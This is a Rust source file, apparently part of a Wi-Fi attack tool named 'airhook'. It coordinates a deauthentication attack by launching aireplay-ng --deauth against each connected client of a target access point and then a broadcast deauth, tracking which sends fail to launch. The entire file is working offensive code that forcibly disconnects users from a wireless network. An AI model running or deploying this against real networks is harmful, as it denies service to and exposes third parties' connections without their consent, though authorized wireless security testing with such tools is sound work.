//! Deauthentication coordinator

use serde::Serialize;
use std::sync::Arc;
use tokio::task::JoinSet;
use tracing::{debug, info, instrument, warn};

use airhook_common::{AccessPoint, Client, EngineContext, ToolCommand, ToolRunner};

/// What the coordinator dispatched for one target.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct DeauthReport {
    /// One per client plus the broadcast. Counted whether or not the send launched.
    pub dispatched: usize,
    /// Sends whose injection tool failed to launch (as far as known at return).
    pub failed: usize,
}

fn deauth_command(ctx: &EngineContext, target: &AccessPoint, client: Option<&Client>) -> ToolCommand {
    let cmd = ToolCommand::new("aireplay-ng")
        .args(["--deauth", &ctx.options.deauth_count.to_string()])
        .args(["-a", &target.bssid.to_string()]);
    let cmd = match client {
        Some(c) => cmd.args(["-c", &c.mac.to_string()]),
        None => cmd,
    };
    cmd.arg(ctx.interface.as_str())
}

fn send(runner: &dyn ToolRunner, cmd: &ToolCommand) -> bool {
    match runner.launch_detached(cmd) {
        Ok(()) => true,
        Err(e) => {
            warn!("Deauth send failed: {}", e);
            false
        }
    }
}

/// Kick every client off the target, then send one broadcast deauth.
///
/// Sends are fire-and-forget: per-client sends run as independent tasks,
/// and a send that fails to launch never stops the others.
#[instrument(skip(ctx, target, clients), fields(bssid = %target.bssid, clients = clients.len()))]
pub async fn deauthenticate(
    ctx: &EngineContext,
    target: &AccessPoint,
    clients: &[Client],
) -> DeauthReport {
    info!(
        "Starting deauthentication for {} clients on {}...",
        clients.len(),
        target.display_name()
    );

    let mut report = DeauthReport::default();
    let mut sends = JoinSet::new();

    for (idx, client) in clients.iter().enumerate() {
        info!("[{}/{}] Sending deauth to client {}", idx + 1, clients.len(), client);
        let runner = Arc::clone(&ctx.runner);
        let cmd = deauth_command(ctx, target, Some(client));
        sends.spawn(async move { send(runner.as_ref(), &cmd) });
        report.dispatched += 1;
        ctx.interrupt.sleep(ctx.options.deauth_stagger).await;
    }

    ctx.interrupt.sleep(ctx.options.deauth_settle).await;

    info!("Sending additional broadcast deauthentication...");
    if !send(ctx.runner.as_ref(), &deauth_command(ctx, target, None)) {
        report.failed += 1;
    }
    report.dispatched += 1;

    ctx.interrupt.sleep(ctx.options.post_broadcast_wait).await;

    let joined = tokio::time::timeout(ctx.options.deauth_join_wait, async {
        let mut failed = 0;
        while let Some(res) = sends.join_next().await {
            if !matches!(res, Ok(true)) {
                failed += 1;
            }
        }
        failed
    })
    .await;
    match joined {
        Ok(failed) => report.failed += failed,
        Err(_) => {
            debug!("{} deauth sends still pending, detaching", sends.len());
            sends.detach_all();
        }
    }

    if report.failed > 0 {
        warn!(
            "{} of {} deauth sends failed to launch",
            report.failed, report.dispatched
        );
    } else {
        info!("Deauthentication initiated for all connected clients");
    }
    report
}
